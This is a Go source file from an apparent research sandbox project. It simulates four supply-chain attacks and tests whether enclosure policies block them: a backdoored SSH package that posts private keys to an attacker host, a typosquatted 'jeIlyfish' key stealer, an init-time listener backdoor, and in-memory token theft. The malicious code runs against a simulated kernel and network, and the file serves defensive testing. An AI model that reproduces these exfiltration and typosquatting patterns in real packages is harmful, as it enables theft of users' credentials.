package attacks

import (
	"errors"
	"fmt"
	"strings"

	"github.com/litterbox-project/enclosure/internal/core"
	"github.com/litterbox-project/enclosure/internal/kernel"
	"github.com/litterbox-project/enclosure/internal/litterbox"
	"github.com/litterbox-project/enclosure/internal/simnet"
)

// --- Scenario 1: ssh-decorator ---------------------------------------
//
// The backdoored ssh-decorator package [15]: its valid functionality is
// SSHing to a given IP and executing commands on the remote server; the
// infected version also exfiltrates the user's credentials to another
// server via a POST request. The paper's two mitigations:
//
//  1. PreallocatedSocket — the application passes a pre-connected
//     socket and the private key into the enclosure, whose policy
//     disables socket creation and file-system access entirely; the
//     exfiltration attempt faults on socket(2).
//  2. ConnectAllowlist — the sysfilter categories are extended to only
//     allow connect(2) to a list of pre-defined addresses; socket
//     creation stays available but contacting the malicious server
//     faults.

// Mitigation selects the §6.5 countermeasure for ssh-decorator.
type Mitigation int

// Mitigations.
const (
	NoMitigation Mitigation = iota
	PreallocatedSocket
	ConnectAllowlist
)

// sshDecorator is the infected package body. If fd >= 0 a pre-connected
// socket is used; otherwise the package opens its own connection.
func sshDecorator(t *core.Task, args ...core.Value) ([]core.Value, error) {
	cmd := args[0].(string)
	creds := args[1].(core.Ref) // private key, shared by the caller
	fd := args[2].(int)

	sock := uint64(fd)
	if fd < 0 {
		s, errno := t.Syscall(kernel.NrSocket)
		if errno != kernel.OK {
			return nil, fmt.Errorf("ssh: socket: %v", errno)
		}
		if _, errno := t.Syscall(kernel.NrConnect, s, uint64(SSHServerAddr.Host), uint64(SSHServerAddr.Port)); errno != kernel.OK {
			return nil, fmt.Errorf("ssh: connect: %v", errno)
		}
		sock = s
	}

	// Valid functionality: authenticate (the key legitimately flows to
	// the remote host) and run the command. Plain read/write descriptor
	// I/O works on sockets, so the pre-allocated-socket mitigation can
	// disable socket *creation* (the net category) without breaking it.
	msg := t.NewString(cmd)
	if _, errno := t.Syscall(kernel.NrWrite, sock, uint64(msg.Addr), msg.Size); errno != kernel.OK {
		return nil, fmt.Errorf("ssh: write: %v", errno)
	}
	resp := t.Alloc(4096)
	n, errno := t.Syscall(kernel.NrRead, sock, uint64(resp.Addr), resp.Size)
	if errno != kernel.OK {
		return nil, fmt.Errorf("ssh: read: %v", errno)
	}
	out := t.ReadString(resp.Slice(0, n))

	// Malicious payload: POST the credentials to the attacker.
	evil, errno := t.Syscall(kernel.NrSocket)
	if errno == kernel.OK {
		if _, errno := t.Syscall(kernel.NrConnect, evil, uint64(AttackerAddr.Host), uint64(AttackerAddr.Port)); errno == kernel.OK {
			key := t.ReadBytes(creds)
			post := t.NewBytes(append([]byte("POST /collect HTTP/1.1\r\n\r\n"), key...))
			t.Syscall(kernel.NrSend, evil, uint64(post.Addr), post.Size)
			t.Syscall(kernel.NrShutdown, evil)
		}
	}
	return []core.Value{out}, nil
}

// SSHPolicyFor returns the scenario's declared enclosure policy for a
// mitigation (the unprotected variant still runs enclosed-shaped code
// under Baseline, with a permissive literal).
func SSHPolicyFor(mit Mitigation) string {
	switch mit {
	case PreallocatedSocket:
		return "sys:io; main:R" // no socket creation, no files
	case ConnectAllowlist:
		return fmt.Sprintf("sys:net,io; main:R; connect:%s", hostString(SSHServerAddr.Host))
	default:
		return "sys:net,io; main:R"
	}
}

// RunSSHDecorator executes the ssh-decorator scenario.
func RunSSHDecorator(kind core.BackendKind, mit Mitigation) (Report, error) {
	rep, _, err := exerciseSSHDecorator(kind, mit, SSHPolicyFor(mit))
	return rep, err
}

// exerciseSSHDecorator is the policy-parameterized form backing both
// the attack report and the privilege analyzer's audit mining.
func exerciseSSHDecorator(kind core.BackendKind, mit Mitigation, policy string, opts ...core.Option) (Report, *core.Program, error) {
	rep := Report{Scenario: "ssh-decorator/" + mitName(mit), Backend: kind, Protected: mit != NoMitigation}

	b := core.NewBuilder(kind, opts...)
	b.Package(core.PackageSpec{
		Name:    "main",
		Imports: []string{"ssh-decorator"},
		Vars:    map[string]int{"private_key": 128},
		Origin:  "app", LOC: 25,
	})
	b.Package(core.PackageSpec{
		Name: "ssh-decorator", Origin: "public", LOC: 1800, Stars: 240,
		Funcs: map[string]core.Func{"SSHExec": sshDecorator},
	})
	b.Enclosure("ssh", "main", policy,
		func(t *core.Task, args ...core.Value) ([]core.Value, error) {
			return t.Call("ssh-decorator", "SSHExec", args...)
		}, "ssh-decorator")
	prog, err := b.Build()
	if err != nil {
		return rep, nil, err
	}

	attacker, err := StartAttacker(prog.Net())
	if err != nil {
		return rep, prog, err
	}
	defer attacker.Close()
	stopSSH, err := StartSSHServer(prog.Net())
	if err != nil {
		return rep, prog, err
	}
	defer stopSSH()

	var injected *simnet.Conn
	defer func() {
		if injected != nil {
			_ = injected.Close()
		}
	}()
	err = prog.Run(func(t *core.Task) error {
		key, err := prog.VarRef("main", "private_key")
		if err != nil {
			return err
		}
		t.WriteBytes(key, []byte(strings.Repeat("K", 128)))

		fd := -1
		if mit == PreallocatedSocket {
			conn, err := prog.Net().Dial(core.DefaultHostIP, SSHServerAddr)
			if err != nil {
				return err
			}
			injected = conn
			fd = prog.Proc().InjectConn(conn)
		}
		res, err := prog.MustEnclosure("ssh").Call(t, "uname -a", key, fd)
		if err != nil {
			return err
		}
		if strings.HasPrefix(res[0].(string), "ok:") {
			rep.LegitOK = true
		}
		return nil
	})
	var fault *litterbox.Fault
	switch {
	case err == nil:
		// Run completed: under the pre-allocated-socket mitigation the
		// malicious socket(2) returns an errno-free fault... (handled
		// below by the fault branch); completing means nothing faulted.
	case errors.As(err, &fault):
		rep.Blocked = true
		rep.FaultOp = fault.Op + ":" + fault.Detail()
		// The legitimate half ran before the malicious half faulted.
		rep.LegitOK = true
	default:
		return rep, prog, err
	}
	attacker.Close() // wait for in-flight uploads before counting loot
	rep.LootBytes = len(attacker.Loot())
	if rep.LootBytes == 0 && rep.Protected {
		rep.Blocked = true
		if rep.FaultOp == "" {
			rep.FaultOp = "syscall"
		}
	}
	return rep, prog, nil
}

func mitName(m Mitigation) string {
	switch m {
	case PreallocatedSocket:
		return "prealloc-socket"
	case ConnectAllowlist:
		return "connect-allowlist"
	default:
		return "unprotected"
	}
}

func hostString(h uint32) string {
	return fmt.Sprintf("%d.%d.%d.%d", byte(h>>24), byte(h>>16), byte(h>>8), byte(h))
}

// --- Scenario 2: PyPI key stealers -----------------------------------
//
// The typosquatted dateutil/jellyfish clones [16–18] steal SSH and GPG
// keys from the local file system at import time and upload them. The
// default enclosure policy — no system calls at all — stops the theft
// at the first open(2), while the package's valid (purely
// computational) functionality runs normally.

// keyStealerProcess is the package's advertised functionality (a
// jellyfish-style phonetic encoding) with the theft grafted on.
func keyStealerProcess(t *core.Task, args ...core.Value) ([]core.Value, error) {
	word := args[0].(string)
	// Valid functionality: a soundex-ish code, pure compute.
	code := soundex(word)

	// Malicious payload: harvest keys and exfiltrate.
	path := t.NewString(SSHKeyPath)
	fd, errno := t.Syscall(kernel.NrOpen, uint64(path.Addr), path.Size, kernel.ORdonly)
	if errno == kernel.OK {
		buf := t.Alloc(4096)
		n, _ := t.Syscall(kernel.NrRead, fd, uint64(buf.Addr), buf.Size)
		t.Syscall(kernel.NrClose, fd)
		sock, errno := t.Syscall(kernel.NrSocket)
		if errno == kernel.OK {
			if _, errno := t.Syscall(kernel.NrConnect, sock, uint64(AttackerAddr.Host), uint64(AttackerAddr.Port)); errno == kernel.OK {
				t.Syscall(kernel.NrSend, sock, uint64(buf.Addr), n)
				t.Syscall(kernel.NrShutdown, sock)
			}
		}
	}
	return []core.Value{code}, nil
}

func soundex(w string) string {
	if w == "" {
		return "0000"
	}
	codes := map[rune]byte{
		'b': '1', 'f': '1', 'p': '1', 'v': '1',
		'c': '2', 'g': '2', 'j': '2', 'k': '2', 'q': '2', 's': '2', 'x': '2', 'z': '2',
		'd': '3', 't': '3', 'l': '4', 'm': '5', 'n': '5', 'r': '6',
	}
	out := []byte{w[0] &^ 0x20}
	var last byte
	for _, r := range strings.ToLower(w[1:]) {
		c, ok := codes[r]
		if !ok {
			last = 0
			continue
		}
		if c != last {
			out = append(out, c)
			last = c
		}
		if len(out) == 4 {
			break
		}
	}
	for len(out) < 4 {
		out = append(out, '0')
	}
	return string(out)
}

// KeyStealerPolicy is the protected variant's declared policy: the
// paper's "basic configuration, i.e., the default memory view and
// limited system calls" — here none.
const KeyStealerPolicy = "sys:none"

// RunKeyStealer executes the PyPI key-stealer scenario.
func RunKeyStealer(kind core.BackendKind, protected bool) (Report, error) {
	policy := "sys:all" // unprotected: full syscall access even when "enclosed"
	if protected {
		policy = KeyStealerPolicy
	}
	rep, _, err := exerciseKeyStealer(kind, protected, policy)
	return rep, err
}

// exerciseKeyStealer is the policy-parameterized form backing both the
// attack report and the privilege analyzer's audit mining.
func exerciseKeyStealer(kind core.BackendKind, protected bool, policy string, opts ...core.Option) (Report, *core.Program, error) {
	rep := Report{Scenario: "pypi-key-stealer", Backend: kind, Protected: protected}

	b := core.NewBuilder(kind, opts...)
	b.Package(core.PackageSpec{Name: "main", Imports: []string{"jeIlyfish"}, Origin: "app", LOC: 12})
	b.Package(core.PackageSpec{
		Name: "jeIlyfish", Origin: "public", LOC: 2600, Stars: 1900,
		Funcs: map[string]core.Func{"Process": keyStealerProcess},
	})
	b.Enclosure("jelly", "main", policy,
		func(t *core.Task, args ...core.Value) ([]core.Value, error) {
			return t.Call("jeIlyfish", "Process", args...)
		}, "jeIlyfish")
	prog, err := b.Build()
	if err != nil {
		return rep, nil, err
	}
	if err := SeedVictim(prog); err != nil {
		return rep, prog, err
	}
	attacker, err := StartAttacker(prog.Net())
	if err != nil {
		return rep, prog, err
	}
	defer attacker.Close()

	err = prog.Run(func(t *core.Task) error {
		res, err := prog.MustEnclosure("jelly").Call(t, "jellyfish")
		if err != nil {
			return err
		}
		if res[0].(string) == "J412" {
			rep.LegitOK = true
		}
		return nil
	})
	var fault *litterbox.Fault
	if errors.As(err, &fault) {
		rep.Blocked = true
		rep.FaultOp = fault.Op + ":" + fault.Detail()
	} else if err != nil {
		return rep, prog, err
	}
	attacker.Close() // wait for in-flight uploads before counting loot
	rep.LootBytes = len(attacker.Loot())
	return rep, prog, nil
}

// --- Scenario 3: backdoored npm-style package ------------------------
//
// A popular package's infected clone opens a backdoor at import time
// [14, 19]: its init function binds a listener and serves an attacker
// shell. Tagging the import with the default policy (an enclosure
// around the init function, §5.1's syntactic sugar) faults the bind.

func backdoorInit(t *core.Task, args ...core.Value) ([]core.Value, error) {
	// Pretend setup work, then the backdoor.
	sock, errno := t.Syscall(kernel.NrSocket)
	if errno != kernel.OK {
		return nil, fmt.Errorf("backdoor: socket: %v", errno)
	}
	if _, errno := t.Syscall(kernel.NrBind, sock, uint64(core.DefaultHostIP), uint64(BackdoorPort)); errno != kernel.OK {
		return nil, fmt.Errorf("backdoor: bind: %v", errno)
	}
	if _, errno := t.Syscall(kernel.NrListen, sock); errno != kernel.OK {
		return nil, fmt.Errorf("backdoor: listen: %v", errno)
	}
	// The real attack would now accept and execute commands; holding
	// the listener open is enough to probe reachability.
	return nil, nil
}

// BackdoorInitPolicy is the protected variant's declared import-tag
// policy (§5.1's syntactic sugar; the auto-enclosure is named
// "init:event-stream").
const BackdoorInitPolicy = "sys:none"

// RunBackdoor executes the backdoored-dependency scenario.
func RunBackdoor(kind core.BackendKind, protected bool) (Report, error) {
	policy := ""
	if protected {
		policy = BackdoorInitPolicy
	}
	rep, _, err := exerciseBackdoor(kind, protected, policy)
	return rep, err
}

// exerciseBackdoor is the policy-parameterized form backing both the
// attack report and the privilege analyzer's audit mining (the miner
// passes the declared init policy plus core.WithAudit so the init runs
// recorded instead of faulting).
func exerciseBackdoor(kind core.BackendKind, protected bool, initPolicy string, opts ...core.Option) (Report, *core.Program, error) {
	rep := Report{Scenario: "npm-backdoor-init", Backend: kind, Protected: protected}

	b := core.NewBuilder(kind, opts...)
	b.Package(core.PackageSpec{Name: "main", Imports: []string{"event-stream"}, Origin: "app", LOC: 18})
	spec := core.PackageSpec{
		Name: "event-stream", Origin: "public", LOC: 5200, Stars: 2000,
		Funcs: map[string]core.Func{
			"Map": func(t *core.Task, args ...core.Value) ([]core.Value, error) {
				return []core.Value{args[0].(int) * 2}, nil // valid functionality
			},
		},
		Init:       backdoorInit,
		InitPolicy: initPolicy,
	}
	b.Package(spec)
	prog, err := b.Build()

	var fault *litterbox.Fault
	if errors.As(err, &fault) {
		// Init ran enclosed and faulted at Build (package load) time.
		rep.Blocked = true
		rep.FaultOp = fault.Op + ":" + fault.Detail()
		return rep, nil, nil
	}
	if err != nil {
		// Build wraps the fault; look through it.
		if strings.Contains(err.Error(), "fault") {
			rep.Blocked = true
			rep.FaultOp = err.Error()
			return rep, nil, nil
		}
		return rep, nil, err
	}

	// Program built: the backdoor either installed or was blocked.
	err = prog.Run(func(t *core.Task) error {
		res, err := t.Call("event-stream", "Map", 21)
		if err != nil {
			return err
		}
		rep.LegitOK = res[0].(int) == 42
		return nil
	})
	if err != nil {
		return rep, prog, err
	}
	// Probe the backdoor from the attacker's machine.
	conn, err := prog.Net().Dial(AttackerAddr.Host, simnet.Addr{Host: core.DefaultHostIP, Port: BackdoorPort})
	if err == nil {
		rep.BackdoorUp = true
		conn.Close()
	}
	return rep, prog, nil
}

// --- Scenario 4: in-memory secret theft ------------------------------
//
// A dependency walks program memory looking for secrets held by other
// packages (the Zoom/Facebook-SDK style of overreach). The default
// memory view makes foreign data unaddressable: the read faults.

func memoryThief(t *core.Task, args ...core.Value) ([]core.Value, error) {
	target := args[0].(core.Ref)
	data := t.ReadBytes(target) // foreign package data
	return []core.Value{string(data)}, nil
}

// MemoryThiefPolicy is the protected variant's declared policy: the
// default view, under which main is foreign and unmapped.
const MemoryThiefPolicy = "sys:none"

// RunMemoryThief executes the in-memory theft scenario.
func RunMemoryThief(kind core.BackendKind, protected bool) (Report, error) {
	policy := "main:R; sys:none" // unprotected variant grants main read access
	if protected {
		policy = MemoryThiefPolicy
	}
	rep, _, err := exerciseMemoryThief(kind, protected, policy)
	return rep, err
}

// exerciseMemoryThief is the policy-parameterized form backing both
// the attack report and the privilege analyzer's audit mining.
func exerciseMemoryThief(kind core.BackendKind, protected bool, policy string, opts ...core.Option) (Report, *core.Program, error) {
	rep := Report{Scenario: "memory-thief", Backend: kind, Protected: protected}

	b := core.NewBuilder(kind, opts...)
	b.Package(core.PackageSpec{
		Name: "main", Imports: []string{"analytics-sdk"},
		Vars:   map[string]int{"api_token": 64},
		Origin: "app", LOC: 20,
	})
	b.Package(core.PackageSpec{
		Name: "analytics-sdk", Origin: "public", LOC: 46000, Stars: 3100,
		Funcs: map[string]core.Func{"Collect": memoryThief},
	})
	b.Enclosure("analytics", "main", policy,
		func(t *core.Task, args ...core.Value) ([]core.Value, error) {
			return t.Call("analytics-sdk", "Collect", args...)
		}, "analytics-sdk")
	prog, err := b.Build()
	if err != nil {
		return rep, nil, err
	}

	err = prog.Run(func(t *core.Task) error {
		token, err := prog.VarRef("main", "api_token")
		if err != nil {
			return err
		}
		t.WriteBytes(token, []byte(MemSecret))
		res, err := prog.MustEnclosure("analytics").Call(t, token)
		if err != nil {
			return err
		}
		if strings.Contains(res[0].(string), MemSecret) {
			rep.LootBytes = len(MemSecret)
		}
		rep.LegitOK = true
		return nil
	})
	var fault *litterbox.Fault
	if errors.As(err, &fault) {
		rep.Blocked = true
		rep.FaultOp = fault.Op + ":" + fault.Detail()
	} else if err != nil {
		return rep, prog, err
	}
	return rep, prog, nil
}
